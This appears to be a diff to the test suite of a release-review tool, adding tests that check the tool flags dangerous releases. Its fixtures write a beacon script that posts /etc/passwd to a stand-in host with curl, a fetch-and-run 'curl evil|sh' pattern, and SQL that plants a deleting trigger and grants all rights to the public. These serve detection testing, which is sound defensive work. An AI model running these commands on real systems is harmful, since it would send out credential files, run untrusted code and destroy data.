@@ -8,6 +8,7 @@ import shutil
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass, replace
 from datetime import UTC, datetime
+from html import unescape
 from pathlib import Path
 from typing import Any
 
@@ -129,11 +130,14 @@ def program(desk: Desk) -> SigningEvent:
     return desk.event(release)
 
 
-def phones_home(desk: Desk) -> SigningEvent:
-    release = desk.next()
-    (release / "bin/beacon").write_text("#!/bin/sh\ncurl https://evil.example/ -d @/etc/passwd\n")
-    (release / "bin/beacon").chmod(0o755)
-    return desk.event(release)
+def phones_home(name: str, mode: int) -> Callable[[Desk], SigningEvent]:
+    def make(desk: Desk) -> SigningEvent:
+        release = desk.next()
+        (release / name).write_text("#!/bin/sh\ncurl https://evil.example/ -d @/etc/passwd\n")
+        (release / name).chmod(mode)
+        return desk.event(release)
+
+    return make
 
 
 def wave(desk: Desk) -> SigningEvent:
@@ -158,7 +162,18 @@ DANGERS: dict[str, tuple[Callable[[Desk], SigningEvent], str]] = {
         r"line 4, puts a program into the database, or runs one: CREATE FUNCTION",
     ),
     "migrator": (migrator, r"brings a program of its own .* curl evil\|sh"),
-    "file that phones home": (phones_home, r"programs that were not there before: bin/beacon"),
+    "file that phones home": (
+        phones_home("bin/beacon", 0o755),
+        r"programs that were not there before: bin/beacon$",
+    ),
+    "file that phones home when it is loaded": (
+        phones_home("bin/beacon.py", 0o644),
+        r"programs that were not there before: bin/beacon\.py",
+    ),
+    "trigger": (
+        sql("CREATE TRIGGER t BEFORE UPDATE ON cases FOR EACH ROW EXECUTE FUNCTION f()"),
+        r"line 4, puts a program into the database that runs by itself at each change: CREATE",
+    ),
     "table made of a function": (
         sql("CREATE TABLE gone AS SELECT lo_unlink(17)"),
         r"line 4, runs a function: CREATE TABLE gone AS SELECT",
@@ -175,7 +190,7 @@ DANGERS: dict[str, tuple[Callable[[Desk], SigningEvent], str]] = {
         lambda desk: desk.agreed("root", threshold=1),
         r"root: one person alone could replace all keys",
     ),
-    "wave": (wave, r"the wave of 2020-01-01T00:00:00Z lies in the past: 100 %"),
+    "wave": (wave, r"the wave of (2019|2020)-\d\d-\d\d \d\d:00 .*UTC\)? lies in the past: 100 %"),
     "country": (
         country,
         r"there is no country XX",
@@ -229,6 +244,38 @@ def test_what_becomes_a_program_is_grave(
         assert found == (words if expected else []), places
 
 
+def test_what_is_loaded_without_being_run_is_marked(desk: Desk) -> None:
+    """A new one is grave, a changed one is usual; many are counted, and each stands in the list."""
+    first = desk.place / "again"
+    make_feed(first / "feed", desk.keys, clock)
+    old = replace(desk, place=first)
+    release = old.release(first / "first", "3.3.0", ["CREATE TABLE cases (id int);"])
+    (release / "app.php").write_text("<?php one();")
+    publish_release(first / "feed", [release], desk.keys, clock)
+    following = old.next()
+    (following / "app.php").write_text("<?php another();")
+    (following / "lib").mkdir()
+    for number in range(40):
+        (following / f"lib/m{number:02}.py").write_text("import urllib\n")
+    (following / "lib/run").write_text("words")
+    (following / "lib/run").chmod(0o755)
+    (following / "plugin.so").symlink_to("data.txt")
+    page = review(old.event(following), whole=True)
+    begin = "WARNING: programs that were not there before: "
+    assert [text.render() for text in page.grave] == [
+        f"{begin}lib/run",
+        f"{begin}40 in lib/, such as m00.py, m01.py, m02.py",
+        f"{begin}plugin.so",
+    ]
+    assert [text.render() for text in page.warnings] == [
+        "WARNING: other programs than before: app.php"
+    ]
+    lines = said(page)
+    assert "  new: lib/m17.py, 14 B (a program)" in lines
+    assert "  new: plugin.so, a link to data.txt (a program)" in lines
+    assert "  changed: app.php, 12 B becomes 16 B (a program)" in lines
+
+
 def test_marks_fit_into_a_terminal(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
     up = HARMLESS + f"DELETE FROM cases WHERE note = '{'word ' * 40}';"
     event = desk.event(desk.next(up=up))
@@ -275,6 +322,36 @@ def test_each_danger_is_marked(desk: Desk, danger: str) -> None:
     assert "<script" not in html
 
 
+def test_of_a_release_with_many_dangers_each_is_marked(desk: Desk) -> None:
+    """All that one release can hold at once: none is lost among the others, in either form."""
+    together = [
+        "silent UPDATE", "GRANT", "function", "trigger", "dropped column",
+        "file that phones home", "file that phones home when it is loaded", "wave", "country",
+    ]  # fmt: skip
+    release = desk.next(
+        HARMLESS + "UPDATE cases SET kg = 0 WHERE country <> 'MU'; GRANT ALL ON cases TO PUBLIC;"
+        " CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cases;"
+        " RETURN NEW; END $$; CREATE TRIGGER t BEFORE UPDATE ON cases FOR EACH ROW"
+        " EXECUTE FUNCTION f(); ALTER TABLE cases DROP COLUMN kg;"
+    )
+    for name, mode in (("bin/beacon", 0o755), ("bin/beacon.py", 0o644)):
+        (release / name).write_text("#!/bin/sh\ncurl https://evil.example/\n")
+        (release / name).chmod(mode)
+    text = (release / "manifest.toml").read_text()
+    (release / "manifest.toml").write_text(f'countries = ["XX"]\n{text}')
+    opens = [Wave(opens=datetime(2020, 1, 1, tzinfo=UTC), percent=100)]
+    page = review(desk.event(release, opens), whole=True)
+    grave = [text.render() for text in page.grave]
+    html = unescape(page_of(page).decode())
+    for danger in together:
+        expected = DANGERS[danger][1].replace(": CREATE FUNCTION", ";.*: CREATE FUNCTION")
+        found = [line for line in grave if re.search(expected, line)]
+        assert len(found) == 1, (danger, grave)
+        assert found[0] in html, danger
+    # No mark beside them, but that lint refuses the country, too.
+    assert len([line for line in grave if "lint refuses it" not in line]) == len(together), grave
+
+
 def test_the_page_shows_a_release_whole(desk: Desk) -> None:
     """Notes, files with their lines, SQL in full, the way back, and digests at the end only."""
     release = desk.next(up=HARMLESS + "UPDATE cases\nSET country = 'MU';\n")
@@ -299,7 +376,7 @@ def test_the_page_shows_a_release_whole(desk: Desk) -> None:
     assert [line for line in lines[annex:] if "Digest of the event" in line]
     # Without the archives nobody counts lines, and the file is named all the same.
     shown = said(review(event, whole=True))
-    assert [line for line in shown if line.startswith("  changed: bin/app, 24 B, 755 becomes")]
+    assert [line for line in shown if line.startswith("  changed: bin/app, 24 B becomes 3")]
 
 
 def test_what_going_back_loses(desk: Desk) -> None:
